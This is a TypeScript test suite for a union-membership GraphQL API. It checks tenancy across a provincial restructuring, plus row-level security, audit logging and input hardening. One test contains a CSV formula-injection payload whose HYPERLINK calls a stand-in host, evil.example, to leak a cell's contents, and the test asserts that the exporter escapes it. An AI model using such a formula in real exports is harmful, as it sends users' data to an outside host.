import { Writable } from 'node:stream';

import { toGlobalId } from '../src/shared/ids';
import { readTable, writeCsv } from '../src/modules/bulk/bulk.format';
import { todayIn } from '../src/shared/dates';
import { useDatabase } from './support/graphql';

/**
 * Scope sliced by date (auth/scope.ts, auth/tenancy.sql.ts): the holes an outside probe found across the
 * 2025 restructuring, each as it was reported. Thái Bình (TB) closed on 2025-06-30 and its units moved to
 * Hưng Yên (HY), its successor; Quảng Ninh's public-servant union (QN-CDVC) closed the same day and the
 * grassroots unions that stayed moved directly under QN.
 */
describe('tenancy follows the tree through time', () => {
  const { api, db } = useDatabase('demo');
  const today = todayIn();
  const owner = () => db().orm.em.fork().getConnection();

  /** A grassroots union that stood under QN-CDVC and stands directly under QN today. */
  async function movedFromQnCdvc(): Promise<string> {
    const [row] = await owner().execute<Array<{ code: string }>>(
      `select u.code from org_unit u
         join org_unit_parent now on now.unit_id = u.id and now.valid_to is null
         join org_unit qn on qn.id = now.parent_id and qn.code = 'QN'
        where exists (select 1 from org_unit_parent l join org_unit c on c.id = l.parent_id
                       where l.unit_id = u.id and c.code = 'QN-CDVC')
        order by u.code limit 1`,
    );
    return row.code;
  }

  it('refuses a closed federation’s admin every write and every current read of a unit that moved on', async () => {
    const tb = await api().as([{ code: 'TB', role: 'ADMIN' }]);
    const recorded = await tb(
      `mutation { recordActivity(input: { unitCode: "TB-GD", kind: SUPPORT, occurredOn: "${today}", quantity: 1 }) { id } }`,
    );
    expect(recorded.errors?.[0].extensions?.code).toBe('FORBIDDEN');
    expect(recorded.errors?.[0].message).toMatch(/closed/);
    // Not even its own past: the level above it (or its successor) corrects it.
    const past = await tb(
      `mutation { recordActivity(input: { unitCode: "TB-GD", kind: SUPPORT, occurredOn: "2022-05-01", quantity: 1 }) { id } }`,
    );
    expect(past.errors?.[0].extensions?.code).toBe('FORBIDDEN');
    for (const mutation of [
      `mutation { renameOrgUnit(code: "TB-GD", name: "x") { code } }`,
      `mutation { createAccount(input: { email: "foothold@example.com", displayName: "x", password: "long-enough-password", unitCode: "TB-GD", role: ADMIN }) { id } }`,
    ]) {
      const result = await tb(mutation);
      expect({ mutation, code: result.errors?.[0].extensions?.code }).toEqual({
        mutation,
        code: 'FORBIDDEN',
      });
    }
    const now = await tb(`{ orgUnit(code: "TB-GD") { code stats(year: 2026) { members } } }`);
    expect(now.errors?.[0].extensions?.code).toBe('FORBIDDEN');
    expect(now.data).toEqual({ orgUnit: null });
    // Its history stays readable: TB-GD as it stood under TB in 2022.
    const then = await tb(
      `{ orgUnit(code: "TB-GD", asOf: "2022-12-31") { code parent { code } stats(year: 2022) { year } } }`,
    );
    expect(then.errors).toBeUndefined();
    expect(then.data).toEqual({ orgUnit: { code: 'TB-GD', parent: { code: 'TB' }, stats: { year: 2022 } } });
    // A node reached in 2022 does not open today's data either.
    const through = await tb(
      `{ orgUnit(code: "TB-GD", asOf: "2022-12-31") { children(asOf: "${today}") { totalCount } } }`,
    );
    expect(through.errors?.[0].extensions?.code).toBe('FORBIDDEN');
  });

  it('serves a closed federation’s admin the files of its history only', async () => {
    const login = await api().http({
      query: `mutation { login(email: "tb@demo.example", password: "demo-password") { token } }`,
    });
    const token = (login.json.data as { login: { token: string } }).login.token;
    const get = async (path: string) =>
      (await fetch(await api().url(path), { headers: { authorization: `Bearer ${token}` } })).status;
    expect(await get(`/export/members?unitCode=TB-GD&format=csv`)).toBe(403);
    expect(await get(`/export/members?unitCode=TB-GD&asOf=2022-12-31&format=csv`)).toBe(200);
    expect(await get(`/export/activities?unitCode=TB-GD&year=${today.slice(0, 4)}&format=csv`)).toBe(403);
    expect(await get(`/export/activities?unitCode=TB-GD&year=2022&format=csv`)).toBe(200);
    const imported = await fetch(await api().url('/import/activities'), {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'text/csv' },
      body: 'x',
    });
    expect(imported.status).toBe(403);
    expect(await imported.json()).toMatchObject({
      errors: [{ message: expect.stringMatching(/closed/), extensions: { code: 'FORBIDDEN' } }],
    });
  });

  it('lets the successor read and correct the closed federation’s history, and keeps what it records from the old admin', async () => {
    const hy = await api().as([{ code: 'HY', role: 'ADMIN' }]);
    const corrected = await hy(
      `mutation { recordActivity(input: { unitCode: "TB-CDVC", kind: SUPPORT, occurredOn: "2022-05-01", quantity: 2 }) { id } }`,
    );
    expect(corrected.errors).toBeUndefined();
    const recorded = await hy(
      `mutation { recordActivity(input: { unitCode: "TB-GD", kind: GIFT, occurredOn: "${today}", quantity: 7, amount: "7000000" }) { id } }`,
    );
    expect(recorded.errors).toBeUndefined();
    const year = Number(today.slice(0, 4));
    const tb = await api().as([{ code: 'TB', role: 'ADMIN' }]);
    const seen = await tb(
      `{ orgUnit(code: "TB-GD", asOf: "2022-12-31") { activities(year: ${year}) { totalCount } } }`,
    );
    expect(seen.errors?.[0].extensions?.code).toBe('FORBIDDEN');
    // And the database on its own: TB's settings read none of TB-GD's activities dated after the move.
    const [tbUnit] = await owner().execute<Array<{ id: number }>>(
      `select id from org_unit where code = 'TB'`,
    );
    const [{ n }] = await db()
      .appOrm.em.fork()
      .transactional(async (tx) => {
        const conn = tx.getConnection();
        const context = tx.getTransactionContext();
        await conn.execute(
          `select app_begin_request('test', null, ?::jsonb, ?::date)`,
          [JSON.stringify({ unit_read: [tbUnit.id], record_write: [tbUnit.id] }), today],
          'all',
          context,
        );
        return conn.execute<Array<{ n: number }>>(
          `select count(*)::int as n from activity a join org_unit u on u.id = a.unit_id
            where u.code = 'TB-GD' and a.occurred_on >= '2025-07-01'`,
          [],
          'all',
          context,
        );
      });
    expect(n).toBe(0);
  });

  it('refuses a closed public-servant union’s admin the units that moved on to the province', async () => {
    const code = await movedFromQnCdvc();
    const qn = await api().as([{ code: 'QN', role: 'ADMIN' }]);
    const key = await qn<{ createApiKey: { apiKey: { id: string } } }>(
      `mutation { createApiKey(input: { name: "thống kê", unitCode: "${code}", role: VIEWER }) { apiKey { id } } }`,
    );
    expect(key.errors).toBeUndefined();
    const admitted = await qn<{ createMember: { id: string } }>(
      `mutation { createMember(input: { fullName: "Nguyễn Thị Mới", gender: FEMALE, phone: "0912345678",
         unitCode: "${code}", joinedOn: "${today}" }) { id } }`,
    );
    expect(admitted.errors).toBeUndefined();

    const cdvc = await api().as([{ code: 'QN-CDVC', role: 'ADMIN' }]);
    const revoked = await cdvc(`mutation { revokeApiKey(id: "${key.data!.createApiKey.apiKey.id}") { id } }`);
    expect(revoked.errors?.[0].extensions?.code).toBe('FORBIDDEN');
    const recorded = await cdvc(
      `mutation { recordActivity(input: { unitCode: "${code}", kind: SUPPORT, occurredOn: "${today}", quantity: 1 }) { id } }`,
    );
    expect(recorded.errors?.[0].extensions?.code).toBe('FORBIDDEN');
    const members = await cdvc(
      `{ orgUnit(code: "${code}") { members(first: 500) { edges { node { fullName } } } } }`,
    );
    expect(members.errors?.[0].extensions?.code).toBe('FORBIDDEN');
    const changed = await cdvc(
      `mutation { updateMember(id: "${admitted.data!.createMember.id}", input: { phone: "0900000000" }) { id } }`,
    );
    expect(changed.errors?.[0].extensions?.code).toBe('FORBIDDEN');
    // The history it held stays its own to read.
    const history = await cdvc<{ orgUnit: { members: { totalCount: number } } }>(
      `{ orgUnit(code: "${code}", asOf: "2022-12-31") { members(first: 1) { totalCount } } }`,
    );
    expect(history.errors).toBeUndefined();
    expect(history.data!.orgUnit.members.totalCount).toBeGreaterThan(0);
  });

  it('shows an earlier union whom it held, never the data the new union keeps, and lets only the new union change it', async () => {
    const national = api().run;
    // A member of a grassroots union that was under QN-CDVC and is under QN today, still a member.
    const first = await national<{
      orgUnit: { members: { edges: Array<{ node: { id: string; fullName: string } }> } };
    }>(
      `{ orgUnit(code: "${await movedFromQnCdvc()}") { members(first: 1) { edges { node { id fullName } } } } }`,
    );
    const member = first.data!.orgUnit.members.edges[0].node;
    const thGrassroots = await owner().execute<Array<{ code: string }>>(
      `select u.code from org_unit u join org_unit_parent l on l.unit_id = u.id join org_unit p on p.id = l.parent_id
        where p.code = 'TH' and u.kind = 'GRASSROOTS_UNION' and u.valid_to is null and l.valid_to is null
        order by u.code limit 1`,
    );
    const moved = await national(
      `mutation { transferMember(memberId: "${member.id}", toUnitCode: "${thGrassroots[0].code}", date: "2024-03-01") { joinedOn } }`,
    );
    expect(moved.errors).toBeUndefined();
    const th = await api().as([{ code: 'TH', role: 'ADMIN' }]);
    const phoned = await th(
      `mutation { updateMember(id: "${member.id}", input: { phone: "0987654321" }) { phone } }`,
    );
    expect(phoned.errors).toBeUndefined();

    const qn = await api().as([{ code: 'QN', role: 'ADMIN' }]);
    const rewritten = await qn(
      `mutation { updateMember(id: "${member.id}", input: { phone: "0900000000" }) { phone } }`,
    );
    expect(rewritten.errors?.[0].extensions?.code).toBe('FORBIDDEN');
    const unknown = await qn(
      `mutation { updateMember(id: "TWVtYmVyOjk5OTk5OTk5", input: { phone: "0900000000" }) { phone } }`,
    );
    expect(rewritten.errors).toEqual(unknown.errors);
    const award = await qn(
      `mutation { grantAward(input: { kind: CERTIFICATE_OF_MERIT, collective: false, unitCode: "QN", memberId: "${member.id}", awardedOn: "${today}" }) { id } }`,
    );
    const unknownAward = await qn(
      `mutation { grantAward(input: { kind: CERTIFICATE_OF_MERIT, collective: false, unitCode: "QN", memberId: "TWVtYmVyOjk5OTk5OTk5", awardedOn: "${today}" }) { id } }`,
    );
    expect(award.errors?.[0].extensions?.code).toBeDefined();
    expect(award.errors).toEqual(unknownAward.errors);

    // QN-CDVC's list of 2023 still names the member (it held them then), without the phone TH keeps.
    const list = await qn<{
      orgUnit: {
        members: { edges: Array<{ node: { id: string; fullName: string; phone: string | null } }> };
      };
    }>(
      `query($name: String) { orgUnit(code: "QN-CDVC", asOf: "2023-12-31") { members(search: $name, first: 100) { edges { node { id fullName phone } } } } }`,
      { name: member.fullName },
    );
    expect(list.errors).toBeUndefined();
    const row = list.data!.orgUnit.members.edges.find((edge) => edge.node.id === member.id)!.node;
    expect(row).toEqual({ id: member.id, fullName: member.fullName, phone: null });
    // The same through the file route: the export names the member, without the phone Thanh Hóa keeps.
    const login = await api().http({
      query: `mutation { login(email: "qn@demo.example", password: "demo-password") { token } }`,
    });
    const qnToken = (login.json.data as { login: { token: string } }).login.token;
    const exported = await fetch(
      await api().url('/export/members?unitCode=QN-CDVC&asOf=2023-12-31&format=csv'),
      {
        headers: { authorization: `Bearer ${qnToken}` },
      },
    );
    expect(exported.status).toBe(200);
    const csv = await exported.text();
    expect(csv).toContain(member.fullName);
    expect(csv).not.toContain('0987654321');
    const seenByTh = await th<{
      orgUnit: { members: { edges: Array<{ node: { id: string; phone: string | null } }> } };
    }>(
      `query($name: String) { orgUnit(code: "${thGrassroots[0].code}") { members(search: $name, first: 100) { edges { node { id phone } } } } }`,
      { name: member.fullName },
    );
    expect(seenByTh.data!.orgUnit.members.edges.find((edge) => edge.node.id === member.id)!.node.phone).toBe(
      '0987654321',
    );
  });

  it('lets not even the national body add accounts, roles or keys at a unit that has closed, only revoke them', async () => {
    const vn = await api().as([{ code: 'VN', role: 'ADMIN' }]);
    for (const mutation of [
      `mutation { createApiKey(input: { name: "thống kê", unitCode: "QN-CDVC", role: VIEWER }) { apiKey { id } } }`,
      `mutation { createAccount(input: { email: "closed@example.com", displayName: "x", password: "long-enough-password", unitCode: "TB", role: VIEWER }) { id } }`,
      `mutation { assignRole(email: "hy@demo.example", unitCode: "TB", role: VIEWER) { role } }`,
    ]) {
      const result = await vn(mutation);
      expect({ mutation, code: result.errors?.[0].extensions?.code }).toEqual({
        mutation,
        code: 'FORBIDDEN',
      });
      expect(result.errors?.[0].message).toMatch(/has closed: accounts, roles and API keys are created only/);
    }
    // What is held there it may take away: QN-CDVC's admin keeps reading its history until then.
    const revoked = await vn(
      `mutation { revokeRole(email: "qn-cdvc@demo.example", unitCode: "QN-CDVC", role: ADMIN) }`,
    );
    expect(revoked).toEqual({ data: { revokeRole: true } });
    // At a unit that stands today it may.
    const open = await vn(
      `mutation { createApiKey(input: { name: "thống kê", unitCode: "QN", role: VIEWER }) { apiKey { id } } }`,
    );
    expect(open.errors).toBeUndefined();
    // The database holds on its own: a national scope cannot insert a key at QN-CDVC either.
    const [{ vn: vnId, closed }] = await owner().execute<Array<{ vn: number; closed: number }>>(
      `select (select id from org_unit where code = 'VN') as vn, (select id from org_unit where code = 'QN-CDVC') as closed`,
    );
    const refused = await db()
      .appOrm.em.fork()
      .transactional(async (tx) => {
        const conn = tx.getConnection();
        const context = tx.getTransactionContext();
        await conn.execute(
          `select app_begin_request('test', null, ?::jsonb, ?::date)`,
          [JSON.stringify({ account_admin: [vnId] }), today],
          'all',
          context,
        );
        return conn
          .execute(
            `insert into api_key (prefix, key_hash, name, unit_id, role) values ('closed00', 'x', 'x', ?, 'VIEWER')`,
            [closed],
            'run',
            context,
          )
          .then(
            () => 'inserted',
            (error: Error) => error.message,
          );
      });
    expect(refused).toMatch(/row-level security/);
  });

  it('keeps a shared cluster to the unit that defines it', async () => {
    const officer = await api().as([{ code: 'TH', role: 'OFFICER' }]);
    const hijacked = await officer(
      `mutation { setClusterMembers(code: "CUM-BAC-TRUNG-BO", name: "x", year: 2024, unitCodes: ["TH"]) }`,
    );
    expect(hijacked.errors?.[0].extensions?.code).toBe('FORBIDDEN');
    const own = await officer(
      `mutation { setClusterMembers(code: "CUM-TH-KCN", name: "Cụm KCN Thanh Hóa", year: 2024, unitCodes: ["TH-KKT"], ownerCode: "TH") }`,
    );
    expect(own.errors).toBeUndefined();
    const qn = await api().as([{ code: 'QN', role: 'ADMIN' }]);
    const taken = await qn(
      `mutation { setClusterMembers(code: "CUM-TH-KCN", name: "x", year: 2024, unitCodes: ["QN"], ownerCode: "QN") }`,
    );
    expect(taken.errors?.[0].extensions?.code).toBe('FORBIDDEN');
    const [{ name }] = await owner().execute<Array<{ name: string }>>(
      `select name from emulation_cluster where code = 'CUM-TH-KCN'`,
    );
    expect(name).toBe('Cụm KCN Thanh Hóa');
  });

  it('audits a national id number refused because a member elsewhere holds it, and says nothing more', async () => {
    const th = await api().as([{ code: 'TH', role: 'ADMIN' }]);
    const [thMember] = await owner().execute<Array<{ id: string }>>(
      `select m.id from member m join org_unit u on u.id = m.holder_unit_id where u.code = 'TH-CS001' limit 1`,
    );
    const nationalId = '038091000123';
    const set = await th(
      `mutation($id: ID!, $n: String!) { updateMember(id: $id, input: { nationalId: $n }) { nationalId } }`,
      { id: toGlobalId('Member', Number(thMember.id)), n: nationalId },
    );
    expect(set.errors).toBeUndefined();

    const qn = await api().as([{ code: 'QN', role: 'ADMIN' }]);
    const grassroots = await movedFromQnCdvc();
    const refused = await qn(
      `mutation($u: String!, $n: String!) { createMember(input: { fullName: "Lê Văn Dò", gender: MALE, unitCode: $u, joinedOn: "2026-01-05", nationalId: $n }) { id } }`,
      { u: grassroots, n: nationalId },
    );
    expect(refused.errors?.[0]).toMatchObject({
      message: 'This value is already in use: choose another.',
      extensions: { code: 'BAD_USER_INPUT', field: 'nationalId' },
    });
    const free = await qn(
      `mutation($u: String!) { createMember(input: { fullName: "Lê Văn Dò", gender: MALE, unitCode: $u, joinedOn: "2026-01-05", nationalId: "038091000999" }) { id } }`,
      { u: grassroots },
    );
    expect(free.errors).toBeUndefined();

    const logged = await owner().execute<
      Array<{ actor: string; operation: string; code: string; entity: string }>
    >(
      `select a.actor, a.operation, u.code, a.entity from audit_log a join org_unit u on u.id = a.unit_id
        where a.action = 'NATIONAL_ID_REFUSED'`,
    );
    // The same actor as the member QN did admit, in the same union's log.
    const [admitted] = await owner().execute<Array<{ actor: string }>>(
      `select actor from audit_log where entity = 'member' and action = 'INSERT' order by id desc limit 1`,
    );
    expect(logged).toEqual([
      { actor: admitted.actor, operation: 'createMember', code: grassroots, entity: 'member' },
    ]);
    // QN's administrators read it in their log; Thanh Hóa's, whose member holds the number, do not.
    const read = (viewer: typeof qn) =>
      viewer(`query($c: String!) { auditLog(unitCode: $c, first: 20) { edges { node { action } } } }`, {
        c: viewer === qn ? 'QN' : 'TH',
      });
    const actions = (answer: Awaited<ReturnType<typeof qn>>) =>
      (answer.data as { auditLog: { edges: Array<{ node: { action: string } }> } }).auditLog.edges.map(
        (edge) => edge.node.action,
      );
    expect(actions(await read(qn))).toContain('NATIONAL_ID_REFUSED');
    expect(actions(await read(th))).not.toContain('NATIONAL_ID_REFUSED');
  });
});

describe('hardening the probe asked for', () => {
  const { api } = useDatabase('demo');
  const LOGIN = `mutation($email: String!, $password: String!) { login(email: $email, password: $password) { token } }`;
  const loginAs = async (email: string) =>
    (
      (await api().http({ query: LOGIN, variables: { email, password: 'demo-password' } })).json.data as {
        login: { token: string };
      }
    ).login.token;

  it('throttles wrong current passwords as it throttles logins', async () => {
    const token = await loginAs('ht@demo.example');
    const codes: unknown[] = [];
    for (let i = 0; i < 7; i += 1) {
      const answer = await api().http(
        {
          query: `mutation { changePassword(currentPassword: "wrong-${i}", newPassword: "a-new-long-password") }`,
        },
        { authorization: `Bearer ${token}` },
      );
      codes.push(answer.json.errors?.[0].extensions?.code);
    }
    expect(codes).toEqual([...Array(5).fill('BAD_USER_INPUT'), 'RATE_LIMITED', 'RATE_LIMITED']);
  });

  it('refuses overlong texts and control characters with BAD_USER_INPUT before anything runs', async () => {
    const qn = await api().as([{ code: 'QN', role: 'ADMIN' }]);
    const create = (fullName: string) =>
      qn(
        `mutation($name: String!) { createMember(input: { fullName: $name, gender: MALE, unitCode: "QN", joinedOn: "2024-01-01" }) { id } }`,
        { name: fullName },
      );
    for (const name of ['x'.repeat(200_000), 'Nguyễn\u0000Văn', 'A\u001bB']) {
      const answer = await create(name);
      expect({ length: name.length, error: answer.errors?.[0] }).toMatchObject({
        length: name.length,
        error: { message: expect.stringMatching(/^A text input/), extensions: { code: 'BAD_USER_INPUT' } },
      });
    }
    const literal = await qn(`{ orgUnit(code: "${'Q'.repeat(3000)}") { code } }`);
    expect(literal.errors?.[0]).toMatchObject({
      message: 'A text input is at most 2000 characters; one has 3000.',
      extensions: { code: 'BAD_USER_INPUT' },
    });
  });

  it('answers a revoked role alike for an unknown email and an account without that role', async () => {
    const qn = await api().as([{ code: 'QN', role: 'ADMIN' }]);
    const revoke = (email: string) =>
      qn(`mutation { revokeRole(email: "${email}", unitCode: "QN", role: VIEWER) }`);
    expect((await revoke('th@demo.example')).data).toEqual({ revokeRole: false });
    expect((await revoke('nobody-at-all@demo.example')).data).toEqual({ revokeRole: false });
    const taken = await qn(
      `mutation { createAccount(input: { email: "th@demo.example", displayName: "x", password: "long-enough-password", unitCode: "QN", role: VIEWER }) { id } }`,
    );
    expect(taken.errors?.[0].message).toBe('This value is already in use: choose another.');
  });

  it('writes a CSV cell that a spreadsheet would run as a formula as text, and reads its own export back', async () => {
    const table = {
      headers: ['Họ và tên', 'Điện thoại'],
      rows: [
        ['=HYPERLINK("http://evil.example/?leak="&A2,"x")', '+84912345678'],
        ['@SUM(1)', '\tx'],
      ],
    };
    const chunks: Buffer[] = [];
    const out = new Writable({
      write(chunk: Buffer, _encoding, done) {
        chunks.push(chunk);
        done();
      },
    });
    await writeCsv(
      {
        headers: table.headers,
        rows: (async function* () {
          yield* table.rows;
        })(),
      },
      out,
    );
    const written = Buffer.concat(chunks).toString('utf8');
    expect(written).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""x"")"`);
    expect(written).toContain("'+84912345678");
    expect(written).toContain("'@SUM(1)");
    expect(written).not.toMatch(/(^|,)[=+@]/m);
    const read = await readTable(Buffer.from(written, 'utf8'), 'csv');
    expect(read.rows.slice(0, 1)).toEqual([table.rows[0]]);
  });

  it('never suggests a field name nor shows a stack trace', async () => {
    const anonymous = await api().as({ kind: 'anonymous' });
    const result = await anonymous(`{ orgUnitt }`);
    expect(result.errors?.[0].message).toBe('Cannot query field "orgUnitt" on type "Query".');
    expect(JSON.stringify(result)).not.toMatch(/Did you mean|stacktrace|\.ts:|\.js:/);
  });
});
